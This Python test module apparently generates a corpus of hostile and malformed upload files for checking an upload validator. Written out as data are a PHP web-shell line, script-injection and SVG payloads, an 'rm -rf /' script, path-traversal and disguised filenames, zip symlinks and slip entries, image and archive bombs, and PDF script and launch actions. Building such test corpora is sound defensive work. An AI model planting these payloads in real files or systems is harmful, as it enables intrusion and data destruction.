"""Files that somebody could send: kinds of trick, each in three carriers. What is to be said of each is in the CSV."""

import io
import stat
import struct
import zipfile
import zlib
from collections.abc import Callable, Iterator
from dataclasses import dataclass

import pikepdf
from PIL import Image

from tests.uploads import sound
from tests.uploads.sound import DECLARED, SOUND, box, docx, film, jpeg, letter, png, xlsx

PHP, PAGE = b"<?php system($_GET['c']); ?>", b"<!doctype html><html><script>alert(1)</script></html>"
SVG = b"<svg xmlns='http://www.w3.org/2000/svg' onload='alert(1)'/>"
EXE, GZIP, RAR, SEVEN = (
    b"MZ\x90\0" + bytes(200),
    b"\x1f\x8b\x08" + bytes(60),
    b"Rar!\x1a\7\0" + bytes(60),
    b"7z\xbc\xaf'\x1c" + bytes(60),
)


@dataclass(frozen=True)
class Sent:
    """A file as it is sent."""

    name: str
    data: bytes
    declared: str | None = ""


Trick = Callable[[str], Sent]


def of(carrier: str, data: bytes, name: str = "file") -> Sent:
    return Sent(f"{name}.{carrier}", data, DECLARED[carrier])


def as_is(name: str = "file") -> Trick:
    return lambda carrier: of(carrier, SOUND[carrier], name)


def filled_with(data: bytes) -> Trick:
    return lambda carrier: of(carrier, data)


def followed_by(data: bytes) -> Trick:
    return lambda carrier: of(carrier, SOUND[carrier] + data)


def preceded_by(data: bytes) -> Trick:
    return lambda carrier: of(carrier, data + SOUND[carrier])


def named(name: str) -> Trick:
    return lambda carrier: Sent(name.format(carrier), SOUND[carrier], DECLARED[carrier])


def declared(said: str | None) -> Trick:
    return lambda carrier: Sent(f"file.{carrier}", SOUND[carrier], said)


def cut(part: float) -> Trick:
    return lambda carrier: of(carrier, SOUND[carrier][: int(len(SOUND[carrier]) * part)])


def archive(entries: dict[str, bytes]) -> bytes:
    into = io.BytesIO()
    with zipfile.ZipFile(into, "w") as out:
        for name, body in entries.items():
            out.writestr(name, body)
    return into.getvalue()


def packed(name: str, body: bytes | str = "x") -> Trick:
    """A part added to an office file; in a letter the same part is attached."""

    def made(carrier: str) -> Sent:
        if carrier == "eml":
            return of(carrier, letter((name.rpartition("/")[2], "application/zip", _bytes(body))))
        return of(carrier, (docx if carrier == "docx" else xlsx)({name: body}))

    return made


def _bytes(body: bytes | str) -> bytes:
    return body.encode() if isinstance(body, str) else body


def zipped(change: Callable[[zipfile.ZipFile], object]) -> Trick:
    def made(carrier: str) -> Sent:
        kind = carrier if carrier in ("docx", "xlsx") else "docx"
        into = io.BytesIO(SOUND[kind])
        with zipfile.ZipFile(into, "a", zipfile.ZIP_DEFLATED) as out:
            change(out)
        return Sent(f"file.{kind}", into.getvalue(), None if carrier == "unknown" else DECLARED[kind])

    return made


def _symlink(out: zipfile.ZipFile) -> None:
    entry = zipfile.ZipInfo("word/link.xml")
    entry.create_system, entry.external_attr = 3, (stat.S_IFLNK | 0o777) << 16
    out.writestr(entry, "/etc/passwd")


def _many(out: zipfile.ZipFile) -> None:
    for number in range(2_001):
        out.writestr(f"word/p{number}.xml", "x")


def _twice(out: zipfile.ZipFile) -> None:
    import warnings

    with warnings.catch_warnings():
        warnings.simplefilter("ignore")
        out.writestr("[Content_Types].xml", "<x/>")


def _comment(out: zipfile.ZipFile) -> None:
    out.comment = b"<?php evil ?>"


def paper(change: Callable[[pikepdf.Pdf], object], how: dict[str, object] | None = None) -> Trick:
    """A PDF changed by its library; the carrier is how it is sent."""

    def made(carrier: str) -> Sent:
        pdf = pikepdf.new()
        pdf.add_blank_page()
        change(pdf)
        into = io.BytesIO()
        pdf.save(into, **(how or {}), object_stream_mode=MODES[carrier])
        return Sent("file.pdf", into.getvalue(), "application/pdf")

    return made


MODES = {
    "plain": pikepdf.ObjectStreamMode.disable,
    "packed": pikepdf.ObjectStreamMode.generate,
    "kept": pikepdf.ObjectStreamMode.preserve,
}
N, D = pikepdf.Name, pikepdf.Dictionary


def _script(pdf: pikepdf.Pdf) -> None:
    pdf.Root.OpenAction = D(S=N.JavaScript, JS="app.alert(1)")


def _launch(pdf: pikepdf.Pdf) -> None:
    pdf.Root.OpenAction = pdf.make_indirect(D(S=N.Launch, F="calc.exe"))


def _attached(pdf: pikepdf.Pdf) -> None:
    pdf.attachments["evil.exe"] = EXE


def _form(pdf: pikepdf.Pdf) -> None:
    pdf.Root.AcroForm = D(XFA=pdf.make_stream(b"<xdp/>"))


def _linked(pdf: pikepdf.Pdf) -> None:
    action = D(S=N.URI, URI="https://one.example/")
    pdf.pages[0].Annots = pikepdf.Array([D(Type=N.Annot, Subtype=N.Link, Rect=[0, 0, 9, 9], A=action)])


def _pages(pdf: pikepdf.Pdf) -> None:
    for _ in range(2_000):
        pdf.add_blank_page()


def _deep(pdf: pikepdf.Pdf) -> None:
    held: pikepdf.Object = pikepdf.Array([1])
    for _ in range(60):
        held = pikepdf.Array([held])
    pdf.Root.Deep = held


def _titled(pdf: pikepdf.Pdf) -> None:
    pdf.docinfo["/Author"] = "Somebody"


def chunk(name: bytes, body: bytes) -> bytes:
    return struct.pack(">I", len(body)) + name + body + struct.pack(">I", zlib.crc32(name + body))


def bomb(pixels: int) -> Trick:
    """The head of a picture so large; the rest is small."""

    def made(carrier: str) -> Sent:
        if carrier == "png":
            head = struct.pack(">IIBBBBB", pixels, pixels, 8, 2, 0, 0, 0)
            body = chunk(b"IHDR", head) + chunk(b"IDAT", zlib.compress(b"\0")) + chunk(b"IEND", b"")
            return of("png", b"\x89PNG\r\n\x1a\n" + body)
        if carrier == "heic":
            return of("heic", sound.heic(pixels, pixels))
        data = jpeg()
        at = data.index(b"\xff\xc0")
        return of("jpg", data[: at + 5] + struct.pack(">HH", pixels, pixels) + data[at + 9 :])

    return made


def located(carrier: str) -> Sent:
    if carrier == "mp4":
        return of("mp4", film(inside=box(b"udta", box(b"\xa9xyz", b"\0\x12\x15\xc7+54.5-001.5/"))))
    return of(carrier, (png if carrier == "png" else jpeg)(exif=sound.gps()))


def commented(words: bytes) -> Trick:
    """Words in the comment of a picture, or in the tag of a recording."""

    def made(carrier: str) -> Sent:
        if carrier == "jpg":
            data = jpeg()
            return of("jpg", data[:2] + b"\xff\xfe" + struct.pack(">H", len(words) + 2) + words + data[2:])
        if carrier == "png":
            data = png()
            return of("png", data[:33] + chunk(b"tEXt", b"Comment\0" + words) + data[33:])
        return of("mp3", sound.mp3(tag=words + bytes(40)))

    return made


def moving(carrier: str) -> Sent:
    """A telephone's moving picture: a film behind the still one."""
    tail = {"jpg": film(), "jpeg": film(b"mp42"), "short": film(b"avc1")}[carrier]
    return Sent("file.jpg", jpeg() + tail, "image/jpeg")


def frames(count: int) -> Trick:
    def made(carrier: str) -> Sent:
        edge = {"small": 2, "middle": 4, "large": 8}[carrier]
        into = io.BytesIO()
        pictures = [Image.new("RGB", (edge, edge), (number % 256, 0, 0)) for number in range(count)]
        pictures[0].save(into, "PNG", save_all=True, append_images=pictures[1:])
        return of("png", into.getvalue())

    return made


def encoded(how: str) -> Trick:
    words = {"short": "Said so.", "lines": "Dywedodd\nfelly.\n", "long": "Он сказал это. " * 40}
    return lambda carrier: of("txt", words[carrier].encode(how))


def text(body: bytes) -> Trick:
    spaced = {"plain": b"", "spaced": b" \n\n", "marked": b"\xef\xbb\xbf"}
    return lambda carrier: of("txt", spaced[carrier] + body)


def attachment(name: str, kind: str, body: bytes) -> Trick:
    variants = {"plain": name, "upper": name.upper(), "long": f"a long name of a file {name}"}
    return lambda carrier: of("eml", letter((variants[carrier], kind, body)))


OTHER = {"pdf": "png", "jpg": "pdf", "mp3": "wav"}
OFFICE, PICTURES, ALL_PDF = ("docx", "xlsx", "eml"), ("jpg", "png", "mp3"), ("plain", "packed", "kept")
ZIPS, TEXTS, ALL_EML = ("docx", "xlsx", "unknown"), ("plain", "spaced", "marked"), ("plain", "upper", "long")
OUTSIDE = (
    '<Relationships><Relationship Id="r1" Target="https://evil.example/t.dotm" TargetMode="External"/></Relationships>'
)
TRICKS: dict[str, tuple[Trick, tuple[str, ...]]] = {
    "sound paper or picture": (as_is(), ("pdf", "jpg", "png")),
    "sound film": (as_is(), ("heic", "mp4", "mov")),
    "sound recording": (as_is(), ("m4a", "mp3", "wav")),
    "sound office file": (as_is(), ("docx", "xlsx", "eml")),
    "name in capitals": (lambda c: Sent(f"FILE.{c.upper()}", SOUND[c], DECLARED[c]), ("pdf", "jpg", "txt")),
    "name with other letters": (named("تسجيل Dŵr שלום.{}"), ("mp3", "png", "docx")),
    "name that leads elsewhere": (named("../../etc/cron.d/x.{}"), ("pdf", "jpg", "txt")),
    "name turned round": (named("invoice\u202efdp.{}"), ("jpg", "mp4", "txt")),
    "very long name": (named("n" * 5000 + ".{}"), ("pdf", "png", "wav")),
    "browser does not know": (declared("application/octet-stream"), ("eml", "heic", "docx")),
    "browser says nothing": (declared(None), ("pdf", "mp4", "xlsx")),
    "says where": (located, ("jpg", "png", "mp4")),
    "moving picture": (moving, ("jpg", "jpeg", "short")),
    "padded with nothing": (followed_by(bytes(64)), ("jpg", "mp3", "wav1")),
    "harmless comment": (commented(b"Seen from the corner."), PICTURES),
    "hundred frames": (frames(100), ("small", "middle", "large")),
    "paper with a link": (paper(_linked), ALL_PDF),
    "paper with an author": (paper(_titled), ALL_PDF),
    "text of Windows": (encoded("utf-16"), ("short", "lines", "long")),
    "text with a mark": (encoded("utf-8-sig"), ("short", "lines", "long")),
    "letter with a paper": (attachment("report.pdf", "application/pdf", SOUND["pdf"]), ALL_EML),
    "empty": (filled_with(b""), ("pdf", "jpg", "docx")),
    "cut short": (cut(0.6), ("pdf", "jpg", "png")),
    "recording cut short": (cut(0.5), ("mp4", "wav", "heic")),
    "office file cut short": (cut(0.7), ("docx", "xlsx", "pdf")),
    "program": (filled_with(EXE), ("pdf", "jpg", "txt")),
    "web page": (filled_with(PAGE), ("pdf", "png", "txt")),
    "drawing that acts": (filled_with(SVG), ("png", "jpg", "txt")),
    "packed file": (filled_with(GZIP), ("docx", "pdf", "txt")),
    "rar": (filled_with(RAR), ("docx", "mp4", "txt")),
    "7z": (filled_with(SEVEN), ("xlsx", "mov", "txt")),
    "other kind of the list": (lambda c: of(c, SOUND[OTHER[c]]), ("pdf", "jpg", "mp3")),
    "browser says otherwise": (declared("text/html"), ("pdf", "jpg", "docx")),
    "no extension": (lambda c: Sent("file", SOUND[c], DECLARED[c]), ("pdf", "jpg", "txt")),
    "extension of a program": (named("photo.{}.exe"), ("jpg", "pdf", "png")),
    "extension of a page": (named("photo.{}.html"), ("jpg", "pdf", "txt")),
    "extension of macros": (named("letter.{}.docm"), ("docx", "xlsx", "pdf")),
    "extension of an archive": (named("all.{}.zip"), ("docx", "xlsx", "pdf")),
    "archive behind": (followed_by(archive({"evil.js": b"x"})), ("pdf", "png", "mp4")),
    "archive behind a picture": (followed_by(archive({"evil.js": b"x"})), ("jpg", "mp3", "wav")),
    "page behind": (followed_by(PAGE), ("jpg", "png", "wav")),
    "page before": (preceded_by(PAGE), ("pdf", "jpg", "mp3")),
    "paper inside": (commented(b"%PDF-1.7 "), PICTURES),
    "program in the comment": (commented(PHP), PICTURES),
    "script in the comment": (commented(b"<script>alert(1)</script>"), PICTURES),
    "too many pixels": (bomb(30_000), ("png", "jpg", "heic")),
    "one row too many": (bomb(7_072), ("png", "jpg", "heic")),
    "frames without end": (frames(101), ("small", "middle", "large")),
    "paper with a script": (paper(_script), ALL_PDF),
    "paper that starts a program": (paper(_launch), ALL_PDF),
    "paper with a file in it": (paper(_attached), ALL_PDF),
    "paper with a live form": (paper(_form), ALL_PDF),
    "paper with a password": (paper(_titled, {"encryption": pikepdf.Encryption(owner="a", user="b")}), ALL_PDF),
    "paper of 2,001 pages": (paper(_pages), ALL_PDF),
    "paper nested without end": (paper(_deep), ALL_PDF),
    "macros": (packed("word/vbaProject.bin"), OFFICE),
    "object inside": (packed("word/embeddings/oleObject1.bin"), OFFICE),
    "archive inside": (packed("word/all.zip", archive({"a": b"x"})), OFFICE),
    "fetches from elsewhere": (zipped(lambda out: out.writestr("word/_rels/document.xml.rels", OUTSIDE)), ZIPS),
    "entity": (zipped(lambda out: out.writestr("word/_rels/a.rels", "<!DOCTYPE a [<!ENTITY b 'c'>]><a/>")), ZIPS),
    "part that leads outside": (zipped(lambda out: out.writestr("../../evil.xml", "x")), ZIPS),
    "part from the root": (zipped(lambda out: out.writestr("/etc/evil.xml", "x")), ZIPS),
    "part that is a link": (zipped(_symlink), ZIPS),
    "too many parts": (zipped(_many), ZIPS),
    "blown up": (zipped(lambda out: out.writestr("word/big.xml", bytes(30_000_000))), ZIPS),
    "two tables of contents": (zipped(_twice), ZIPS),
    "comment of the archive": (zipped(_comment), ZIPS),
    "program as a text": (text(b"#!/bin/sh\nrm -rf /\n"), TEXTS),
    "page as a text": (text(b"Hello <iframe src='x'></iframe>"), TEXTS),
    "text with a nothing": (text(b"words\0words"), TEXTS),
    "rich text": (text(b"{\\rtf1 words}"), TEXTS),
    "letter with a program": (attachment("photo.exe", "application/octet-stream", EXE), ALL_EML),
    "letter with a program in disguise": (attachment("photo.pdf", "application/pdf", EXE), ALL_EML),
    "letter with an archive": (attachment("all.zip", "application/zip", archive({"a": b"x"})), ALL_EML),
}  # fmt: skip
SOUND_TOO = {"wav1": "wav"}


def corpus() -> Iterator[tuple[str, str, Sent]]:
    """Kind, carrier and file."""
    for kind, (make, carriers) in TRICKS.items():
        for carrier in carriers:
            yield kind, carrier, make(carrier)
